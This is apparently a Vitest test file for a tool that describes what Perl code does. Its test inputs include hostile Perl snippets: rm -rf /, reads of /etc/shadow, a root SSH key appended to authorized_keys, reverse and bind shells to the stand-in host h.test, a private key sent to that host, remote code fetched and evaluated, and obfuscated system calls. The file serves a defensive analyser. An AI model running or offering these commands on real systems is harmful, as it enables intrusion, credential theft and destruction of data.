import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ['print "ok"', "prints ok"],
  ["say 1", "prints 1"],
  ["s/(\\d+)/$1+1/e; print if /x/ && !m{^#} or tr/a-z//", "prints …"],
  ['my %h; $h{$_}++ for split /,/, $x; printf "%s\\n", join ",", sort { $h{$a} <=> $h{$b} } keys %h', "prints %s\n…"],
  ["use strict; use List::Util qw(sum); print sum(map { $_ * 2 } grep { $_ % 2 } 1..9)", "prints …"],
  ["my ($a, $b) = (6 / 3, 4 / 2); print $a / $b if -e $f", "prints 1"],
  ['print <<"END" . q(x); # comment\nHello $name\nEND\n=pod\nsystem("no")\n=cut', "prints Hello …\nx"],
  ['my $s = "it\'s"; $s =~ s/\'/"/g; print length $s', "prints …"],
])("Perl, what only computes is nothing: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ['system("rm -rf /")', "runs sh: rm -rf /"],
  ['system "rm", "-rf", "/"', "runs rm -rf /"],
  ['system rm => "-rf", "/"', "runs rm -rf /"],
  ['exec {"/bin/sh"} "-sh", "-c", "id"', "runs /bin/sh -c id"],
  ["print `id`", "$`id` -> stdout; runs sh: id > $`id`; prints $(id)"],
  [
    "my $o = qx{cat /etc/shadow}; print $o",
    "$`cat /etc/shadow` -> stdout; runs sh: cat /etc/shadow > $`cat /etc/shadow`; prints $(cat /etc/shadow)",
  ],
  ['open(F, "id|"); print <F>', "$`id` -> stdout; runs sh: id > $`id`; prints $(command)"],
  ['open my $p, "|-", "sh", "-c", "id"', "runs sh -c id < $its input"],
  ['open(P, "| mail root"); print P "x"', "runs sh:  mail root < $its input"],
  ['@a = ("rm", "-rf", "/"); system @a', "runs rm -rf /"],
  ['$c = "r" . "m"; $c .= " -rf /"; system($c)', "runs sh: rm -rf /"],
  ['use POSIX qw(setuid); POSIX::setuid(0); exec "/bin/sh"', "elevates account root; runs sh: /bin/sh"],
  ['for my $f ("a", "b") { system("touch $f") }', "runs sh: touch a; runs sh: touch b"],
  ['sub r { my ($x) = @_; system($x) } r("id")', "runs sh: id"],
  ["s/x/`id`/e", "runs sh: id > $`id`"],
  ['"x" =~ /(?{ system("id") })/', "runs sh: id"],
  ['$ENV{LD_PRELOAD} = "/tmp/x.so"; system("ls")', "runs sh: ls with LD_PRELOAD=/tmp/x.so"],
  ['CORE::GLOBAL::system("id"); &CORE::exec("id")', "runs sh: id"],
])("Perl runs programs: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ['open(my $f, "<", "/etc/shadow") or die; print <$f>', "reads /etc/shadow; /etc/shadow -> stdout; prints $file"],
  ['open F, "/etc/shadow"; while (<F>) { print }', "reads /etc/shadow; /etc/shadow -> stdout; prints $file"],
  [
    'open my $o, ">>", "/root/.ssh/authorized_keys"; print $o "ssh-rsa x\\n"; print {$o} "y\\n"; close $o',
    "appends /root/.ssh/authorized_keys; 'ssh-rsa x\ny\n' -> /root/.ssh/authorized_keys",
  ],
  ['print STDERR "x"; print STDOUT "y"', "'x' -> process; prints y"],
  ['unlink "/etc/a", "/etc/b"; rmdir "/srv"', "deletes /etc/a; deletes /etc/b; deletes /srv"],
  ['unlink glob "/etc/*.conf"', "deletes /etc/*.conf"],
  ['use File::Path; rmtree("/srv")', "deletes /srv recursive"],
  [
    'chmod 04755, "/tmp/x"; symlink "/etc/passwd", "/tmp/y"; rename "a", "b"',
    "configures /tmp/x mode=04755; creates /tmp/y how=symlink source=/etc/passwd; reads a; writes b truncates; deletes a how=move; a -> b",
  ],
  ["while (<>) { print }", "reads /etc/passwd; /etc/passwd -> stdout; prints $a line", "/etc/passwd"],
])("Perl reads and writes files: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  [
    'use Socket;$i="h.test";$p=12;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}',
    "connects tcp://h.test:12; runs sh: /bin/sh -i < tcp://h.test:12 > tcp://h.test:12",
  ],
  [
    '$c=new IO::Socket::INET(PeerAddr,"h.test:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
    "connects tcp://h.test:4242; tcp://h.test:4242 -> code shell; runs sh: $stdin < tcp://h.test:4242 > tcp://h.test:4242",
  ],
  [
    'my $s = IO::Socket::INET->new(PeerAddr => "h.test", PeerPort => 80); open(F, "<", "/root/.ssh/id_rsa"); print $s join "", <F>',
    "connects tcp://h.test:80; reads /root/.ssh/id_rsa; /root/.ssh/id_rsa -> tcp://h.test:80",
  ],
  [
    'bind(S,sockaddr_in(9001, INADDR_ANY));listen(S,SOMAXCONN);accept(C,S);open(STDIN,">&C");open(STDOUT,">&C");exec("sh -i")',
    "listens tcp://0.0.0.0:9001; runs sh: sh -i < tcp://0.0.0.0:9001 > tcp://0.0.0.0:9001",
  ],
  [
    'use LWP::UserAgent; my $r = LWP::UserAgent->new->get("http://h.test/x"); eval $r->content',
    "connects http://h.test/x; http://h.test/x -> code perl; opaque-code network: perl code that is made when it runs",
  ],
  [
    'use LWP::Simple; getstore("http://h.test/x", "/tmp/x")',
    "connects http://h.test/x; writes /tmp/x truncates; http://h.test/x -> /tmp/x",
  ],
])("Perl connects: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ["eval \"system('id')\"", "runs sh: id"],
  ['use MIME::Base64; eval decode_base64("c3lzdGVtKCdpZCcp")', "runs sh: id"],
  ['eval pack("H*", "73797374656d282769642729")', "runs sh: id"],
  ["eval $ENV{X}", "$X -> code perl; opaque-code inline: perl code that is made when it runs"],
  ['eval { die "x" }; print $@ if $@', "prints $@"],
  ["my $code = <STDIN>; eval $code", "stdin -> code perl; opaque-code inline: perl code that is made when it runs"],
  ['system(join "", map { chr } 105, 100)', "runs sh: id"],
  ['system(scalar reverse "di")', "runs sh: id"],
  ['&{"system"}("id")', "runs sh: id"],
])("Perl evaluates text: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ['print pack("H*", "6964")', "prints id"],
  ['print "a" x 3, "\\n"; print "b"', "prints aaa|b"],
  ['if ($x) { print "a" }', "prints a"],
])("Perl prints what its reader may run: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ["rm -rf /", "opaque-code inline: perl code that could not be read"],
  ['print "unfinished', "opaque-code inline: perl code that could not be read"],
  [
    "use Acme::Unknown; frobnicate(1)",
    "opaque-code project: perl loads Acme::Unknown; opaque-code project: perl calls frobnicate",
  ],
  ['system("echo ~x~")', "runs sh: echo $x"],
])("Perl that cannot be read or is not known: %s", (code, expected, ...args) => {
  expect(shown("perl", code, ...args)).toBe(expected);
});

test.each([
  ["print $F[0]", ""],
  ["print if /x/", ""],
  ["system $_", "stdin -> code shell; runs sh: $stdin"],
  ["print", "runs sh: id > $`id`", "id|"],
])("Perl, once for each line: %s", (code, expected, ...args) => {
  expect(shown("perl-lines", code, ...args)).toBe(expected);
});
